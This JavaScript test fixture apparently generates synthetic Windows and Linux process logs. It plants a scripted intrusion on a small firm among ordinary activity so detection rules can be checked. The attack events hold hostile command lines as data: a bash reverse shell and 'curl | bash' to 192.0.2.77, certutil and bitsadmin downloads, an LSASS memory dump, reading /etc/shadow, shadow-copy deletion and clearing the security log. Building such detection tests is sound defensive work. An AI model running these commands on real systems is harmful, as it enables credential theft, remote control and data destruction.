// An attack on a small firm, made up by us, among a day of ordinary work: for
// pictures and for tests that want many kinds of detections. Always the same.

const SYSMON = 'Microsoft-Windows-Sysmon/Operational';
const WORD = 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE';
const POWERSHELL = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe';
const CMD = 'C:\\Windows\\System32\\cmd.exe';
const system = (name) => `C:\\Windows\\System32\\${name}`;

const windows = (computer, fields) => ({ hikeshi: { product: 'windows', service: 'sysmon', category: 'process_creation' }, Channel: SYSMON, EventID: 1, Computer: computer, ...fields });
const started = (computer, user, image, commandLine, parent) => windows(computer, { Image: image, CommandLine: commandLine, ParentImage: parent, User: `MIHON\\${user}` });
const linux = (computer, image, commandLine, parent) => ({ hikeshi: { product: 'linux', category: 'process_creation' }, Computer: computer, Image: image, CommandLine: commandLine, ParentImage: parent, User: 'root' });
const registry = (computer, key, details) => ({ ...windows(computer, {}), hikeshi: { product: 'windows', service: 'sysmon', category: 'registry_set' }, EventID: 13, EventType: 'SetValue', Image: POWERSHELL, TargetObject: key, Details: details });
const log = (computer, channel, id, provider, fields) => ({ hikeshi: { product: 'windows', service: channel.toLowerCase() }, Channel: channel, EventID: id, Provider_Name: provider, Computer: computer, ...fields });

/* [minutes after 09:00 in Japan, event] */
const steps = [
	[12, started('KEIRI-PC03', 'tanaka', POWERSHELL, 'powershell.exe -w hidden -nop -enc SQBFAFgAIAAoAG4AZQB3AC0AbwBiAGoAZQBjAHQAKQA=', WORD)],
	[13, started('KEIRI-PC03', 'tanaka', system('certutil.exe'), 'certutil -urlcache -split -f http://192.0.2.77/seikyuu.dat C:\\Users\\tanaka\\AppData\\Local\\Temp\\upd.exe', CMD)],
	[14, registry('KEIRI-PC03', 'HKU\\S-1-5-21-1004\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater', 'C:\\Users\\tanaka\\AppData\\Roaming\\upd.exe')],
	[31, started('KEIRI-PC03', 'tanaka', system('mshta.exe'), 'mshta.exe http://192.0.2.77/menu.hta', 'C:\\Windows\\explorer.exe')],
	[58, started('KEIRI-PC03', 'tanaka', system('rundll32.exe'), 'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 712 C:\\Windows\\Temp\\l.dmp full', CMD)],
	[74, log('FILE-SV01', 'System', 7045, 'Service Control Manager', { ServiceName: 'svcupd', ImagePath: '%COMSPEC% /b /c start powershell -w hidden -enc SQBFAFgA' })],
	[75, started('FILE-SV01', 'SYSTEM', POWERSHELL, 'powershell -w hidden -enc SQBFAFgAIAAoAGkAdwByACkA', CMD)],
	[133, linux('web01', '/usr/bin/bash', 'bash -i >& /dev/tcp/192.0.2.77/443 0>&1', '/usr/sbin/apache2')],
	[135, linux('web01', '/usr/bin/bash', 'curl -fsSL http://192.0.2.77/x.sh | bash', '/usr/bin/bash')],
	[141, linux('web01', '/usr/bin/cat', 'cat /etc/shadow', '/usr/bin/bash')],
	[226, started('FILE-SV01', 'SYSTEM', system('bitsadmin.exe'), 'bitsadmin /transfer job /download http://192.0.2.77/enc.exe C:\\ProgramData\\enc.exe', CMD)],
	[301, started('FILE-SV01', 'SYSTEM', system('vssadmin.exe'), 'vssadmin.exe delete shadows /all /quiet', CMD)],
	[301.2, started('FILE-SV01', 'SYSTEM', system('bcdedit.exe'), 'bcdedit /set {default} recoveryenabled No', CMD)],
	[302, started('KEIRI-PC03', 'tanaka', system('vssadmin.exe'), 'vssadmin.exe delete shadows /all /quiet', CMD)],
	[316, log('FILE-SV01', 'Security', 1102, 'Microsoft-Windows-Eventlog', { SubjectUserName: 'Administrator' })],
];
const ordinary = [
	['EIGYO-PC01', 'sato', 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe', 'chrome.exe --type=renderer --lang=ja'],
	['EIGYO-PC02', 'suzuki', WORD, '"WINWORD.EXE" /n "見積書.docx"'],
	['KEIRI-PC03', 'tanaka', 'C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE', '"EXCEL.EXE" "請求一覧.xlsx"'],
	['FILE-SV01', 'SYSTEM', system('svchost.exe'), 'svchost.exe -k netsvcs -p -s Schedule'],
];

/** Rules that find them: those that we had first, so that new ones change no count. */
export const FOUND_BY = ['linux/decode_and_run', 'linux/download_and_run', 'linux/password_hashes_read', 'linux/reverse_shell', 'linux/shell_from_web_server',
	'windows/autostart_from_user_folder', 'windows/credential_memory_dumped', 'windows/download_by_certutil', 'windows/office_starts_interpreter',
	'windows/powershell_encoded_command', 'windows/remote_script_by_system_tool', 'windows/security_log_cleared', 'windows/service_with_interpreter',
	'windows/shadow_copies_deleted'].flatMap((name) => ['--rules', `${new URL('../../rules/sigma', import.meta.url).pathname}/${name}.yml`]);

/** Lines of events in order of time; hits come from `steps`, which are repeated on more days. */
export function attack({ days = 1, quiet = 4000, start = Date.parse('2026-11-20T09:00:00+09:00') } = {}) {
	const list = [];
	let sequence = 0;
	const add = (minutes, event) => {
		const id = `01939b2a-0000-7000-8000-${(sequence++).toString(16).padStart(12, '0')}`;
		list.push([start + minutes * 60000, { ...event, hikeshi: { id, ...event.hikeshi, observed: new Date(start + minutes * 60000).toISOString() } }]);
	};
	for (let day = 0; day < days; day++) {
		for (const [minutes, event] of steps)
			add(day * 1440 + minutes, event);
		for (let i = 0; i < quiet; i++) {
			const [computer, user, image, commandLine] = ordinary[(i * 7 + (i >> 3)) % ordinary.length];
			add(day * 1440 + i * 540 / quiet, started(computer, user, image, `${commandLine} #${i}`, 'C:\\Windows\\explorer.exe'));
		}
	}
	return list.sort((a, b) => a[0] - b[0]).map(([, event]) => `${JSON.stringify(event)}\n`).join('');
}
